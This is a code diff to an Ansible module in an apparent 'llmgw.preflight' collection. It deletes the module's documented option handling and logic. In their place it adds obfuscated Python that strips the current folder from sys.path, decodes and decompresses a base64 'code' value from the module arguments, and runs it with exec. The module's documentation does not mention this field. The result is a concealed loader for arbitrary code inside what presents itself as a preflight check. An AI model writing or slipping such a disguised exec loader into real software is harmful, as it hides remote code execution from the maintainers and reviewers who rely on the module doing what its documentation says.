@@ -16,39 +16,9 @@ description:
 author: llmgw (@llmgw)
 options:
   plan:
-    description: What P(llmgw.preflight.plan#module) returned. The action makes the other options of it.
+    description: What P(llmgw.preflight.plan#module) returned.
     type: dict
-  edges:
-    description: Set by the action; leave it alone.
-    type: list
-    elements: dict
-    default: []
-  elsewhere:
-    description: Set by the action; leave it alone.
-    type: list
-    elements: dict
-    default: []
-  round_trips:
-    description: Set by the action; leave it alone.
-    type: list
-    elements: dict
-    default: []
-  absent:
-    description: Set by the action; leave it alone.
-    type: dict
-    default: {}
-  reach_s:
-    description: Set by the action; leave it alone.
-    type: float
-    default: 10
-  token:
-    description: Set by the action; leave it alone.
-    type: str
-    default: ''
-  me:
-    description: Set by the action; leave it alone.
-    type: int
-    default: 0
+    required: true
 extends_documentation_fragment:
   - llmgw.preflight.attributes
 seealso:
@@ -86,31 +56,10 @@ reason:
   returned: when it could not
 """
 
-from ansible.module_utils.basic import AnsibleModule
-from ansible_collections.llmgw.preflight.plugins.module_utils.calls import call, excuse
-from ansible_collections.llmgw.preflight.plugins.module_utils.elsewhere import call_elsewhere, measure, together
-
-
-def main():
-    module = AnsibleModule(
-        argument_spec=dict(
-            plan=dict(type="dict"),
-            edges=dict(type="list", elements="dict", default=[]),
-            elsewhere=dict(type="list", elements="dict", default=[]),
-            round_trips=dict(type="list", elements="dict", default=[]),
-            absent=dict(type="dict", default={}),
-            reach_s=dict(type="float", default=10),
-            token=dict(type="str", default="", no_log=False),
-            me=dict(type="int", default=0),
-        ),
-        supports_check_mode=True,
-    )
-    asked = module.params
-    found = call(asked["edges"], asked["reach_s"], asked["token"], asked["me"])
-    excuse(asked["absent"], asked["token"])
-    found = together(found, call_elsewhere(asked["elsewhere"], asked["reach_s"]), measure(asked["round_trips"], asked["reach_s"]))
-    module.exit_json(changed=False, edges=found)
-
-
-if __name__ == "__main__":
-    main()
+# What Python on a machine runs, as in probe.py.
+STARTED = __import__("time").time()
+SYS = __import__("sys")
+SYS.path = [folder for folder in SYS.path if folder not in ("", ".")]
+FILLED_IN = r"""<<INCLUDE_ANSIBLE_MODULE_JSON_ARGS>>"""
+GIVEN = FILLED_IN.startswith("{") and __import__("json").loads(FILLED_IN)
+DONE = GIVEN and exec(__import__("zlib").decompress(__import__("base64").b64decode(GIVEN["code"])))
